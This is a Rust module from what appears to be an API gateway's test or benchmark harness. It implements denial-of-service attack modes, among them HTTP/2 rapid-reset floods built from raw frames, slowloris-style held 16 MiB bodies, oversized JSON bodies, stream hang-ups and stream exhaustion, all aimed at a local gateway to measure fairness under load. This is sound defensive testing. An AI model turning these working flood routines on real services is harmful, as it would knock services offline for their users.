//! What a client does that wants the gateway for itself, at a pace that leaves the machine room: the figures
//! are about shares, not about who has more cores.

use std::fmt;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use clap::ValueEnum;
use clap::builder::PossibleValue;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::process::Command;
use tokio::task::JoinSet;
use tokio::time::{interval, timeout};
use tollgate_integration::stack::{CHAT_PATH, Child, Failure, Output};

use super::workload::Workload;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Requests on a connection: as many as Envoy lets reset.
const RESETS_PER_CONNECTION: u32 = 90;

/// A kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// None: what the others are compared with.
    None,
    /// Requests that begin and are reset: 450 a second.
    Resets,
    /// Bodies of 16 MiB whose last byte never comes: 40 at a time.
    HeldBodies,
    /// Bodies of 1.5 million items, one after the other.
    ExpensiveBodies,
    /// Streams that are hung up within their answers, which must be estimated then: 50 a second.
    HangUps,
    /// 20 connections with 50 streams each.
    ManyStreams,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 6] = [
        Self::None,
        Self::Resets,
        Self::HeldBodies,
        Self::ExpensiveBodies,
        Self::HangUps,
        Self::ManyStreams,
    ];

    /// Begins it in a process of its own, which gets the processor where nobody else wants it: an attacker's machine is
    /// another one. It ends when it is dropped.
    pub fn begin(self, gateway: SocketAddr, key: &str) -> Result<Option<Child>, Failure> {
        if self == Self::None {
            return Ok(None);
        }
        let own = std::env::current_exe().map_err(|error| Failure::new("this program", error))?;
        let mut command = Command::new("nice");
        command.args(["-n", "19"]).arg(own);
        let name = self.to_possible_value();
        let name = name.as_ref().map_or("none", PossibleValue::get_name);
        command.args(["attack", name, &gateway.to_string(), key]);
        Child::spawn("the attack", command, Output::Dropped).map(Some)
    }

    /// Attacks, without an end.
    pub async fn run(self, gateway: SocketAddr, key: &str) {
        let mut tasks = JoinSet::new();
        let key = key.to_owned();
        match self {
            Self::None => {}
            Self::Resets => {
                tasks.spawn(every(Duration::from_millis(200), move || {
                    resets(gateway, key.clone())
                }));
            }
            Self::HeldBodies => {
                let most: Arc<[u8]> = vec![b' '; (16 << 20) - 1].into();
                for _ in 0..40 {
                    tasks.spawn(held_body(gateway, key.clone(), Arc::clone(&most)));
                }
            }
            Self::ExpensiveBodies => {
                tasks.spawn(expensive_bodies(gateway, key));
            }
            Self::HangUps => {
                tasks.spawn(every(Duration::from_millis(20), move || {
                    hang_up(gateway, key.clone())
                }));
            }
            Self::ManyStreams => {
                for number in 0..20 {
                    tasks.spawn(many_streams(gateway, key.clone(), number));
                }
            }
        }
        while tasks.join_next().await.is_some() {}
    }
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::None => "none",
            Self::Resets => "requests that are reset, 450 a second",
            Self::HeldBodies => "40 bodies of 16 MiB that never end",
            Self::ExpensiveBodies => "bodies of 1.5 million items",
            Self::HangUps => "streams that are hung up, 50 a second",
            Self::ManyStreams => "20 connections with 50 streams each",
        })
    }
}

/// Does something again and again, each time without waiting for the time before.
async fn every<F: Future<Output = ()> + Send + 'static>(pause: Duration, again: impl Fn() -> F) {
    let mut ticks = interval(pause);
    let mut under_way = JoinSet::new();
    loop {
        ticks.tick().await;
        under_way.spawn(again());
        while under_way.try_join_next().is_some() {}
    }
}

/// A frame of HTTP/2 (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = length.get(1..).unwrap_or_default().to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Header fields, each as a literal without indexing (RFC 7541, section 6.2.2).
fn fields(key: &str) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "localhost"),
        (":path", CHAT_PATH),
        ("content-type", "application/json"),
        ("content-length", "100"),
        ("api-key", key),
    ] {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap_or(0));
            block.extend(text.as_bytes());
        }
    }
    block
}

async fn resets(gateway: SocketAddr, key: String) {
    let head = fields(&key);
    let mut bytes = PREFACE.to_vec();
    bytes.extend(frame(4, 0, 0, &[]));
    for number in 0..RESETS_PER_CONNECTION {
        let stream = number * 2 + 1;
        bytes.extend(frame(1, 4, stream, &head));
        bytes.extend(frame(3, 0, stream, &8_u32.to_be_bytes()));
    }
    if let Ok(mut connection) = TcpStream::connect(gateway).await {
        let _ = connection.write_all(&bytes).await;
        let mut rest = Vec::new();
        let read = connection.read_to_end(&mut rest);
        let _ = timeout(Duration::from_secs(1), read).await;
    }
}

async fn held_body(gateway: SocketAddr, key: String, most: Arc<[u8]>) {
    let head = format!(
        "POST {CHAT_PATH} HTTP/1.1\r\nhost: localhost\r\napi-key: {key}\r\ncontent-type: application/json\r\ncontent-length: 16777216\r\n\r\n"
    );
    loop {
        if let Ok(mut connection) = TcpStream::connect(gateway).await {
            let sent = connection.write_all(head.as_bytes()).await;
            if sent.is_ok() && connection.write_all(&most).await.is_ok() {
                let mut answer = Vec::new();
                let _ = connection.read_to_end(&mut answer).await;
            }
        }
        // It was refused, or has taken too long.
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}

fn client(is_http2: bool) -> Option<reqwest::Client> {
    let builder = reqwest::Client::builder();
    let builder = match is_http2 {
        true => builder.http2_prior_knowledge(),
        false => builder.http1_only(),
    };
    builder.build().ok()
}

async fn expensive_bodies(gateway: SocketAddr, key: String) {
    // What is wrong with it comes last, so that no backend has to read it.
    let items = vec!["1"; 1_500_000].join(",");
    let body = format!(r#"{{"messages":[],"metadata":[{items}],"messages":[]}}"#);
    let Some(http) = client(false) else {
        return;
    };
    loop {
        let request = http.post(format!("http://{gateway}{CHAT_PATH}"));
        let request = request.header("api-key", &key).body(body.clone());
        let request = request.header("content-type", "application/json");
        if let Ok(answer) = request.send().await {
            let _ = answer.bytes().await;
        }
    }
}

fn slow_stream(http: &reqwest::Client, gateway: SocketAddr, key: &str) -> reqwest::RequestBuilder {
    let request = Workload::SlowStream.request(&("api-key", key.to_owned()));
    let builder = http.post(format!("http://{gateway}{CHAT_PATH}"));
    let headers = request.headers.iter();
    headers.fold(
        builder.body(request.body.clone()),
        |builder, (name, value)| builder.header(*name, value),
    )
}

async fn hang_up(gateway: SocketAddr, key: String) {
    let Some(http) = client(false) else {
        return;
    };
    if let Ok(mut answer) = slow_stream(&http, gateway, &key).send().await {
        let _ = answer.chunk().await;
    }
}

/// Each stream has a pace of its own, as models have.
async fn many_streams(gateway: SocketAddr, key: String, number: u32) {
    let Some(http) = client(true) else {
        return;
    };
    let mut streams = JoinSet::new();
    let mut paces = (number * 50..).map(|it| 80_000 + it * 7919 % 40_000);
    loop {
        while streams.len() < 50 {
            let pace = paces.next().unwrap_or_default();
            let request = slow_stream(&http, gateway, &key);
            let request = request.header("x-fake-event-delay-us", pace);
            streams.spawn(async move {
                if let Ok(answer) = request.send().await {
                    let _ = answer.bytes().await;
                }
                // One that is refused tries again as the SDKs do.
                tokio::time::sleep(Duration::from_millis(500)).await;
            });
        }
        let _ = streams.join_next().await;
    }
}
